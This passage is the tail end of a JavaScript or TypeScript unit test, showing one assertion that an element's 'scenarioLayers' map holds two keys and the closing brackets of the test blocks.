    expect(el.scenarioLayers!.keys()).to.have.length(2);
  });
});
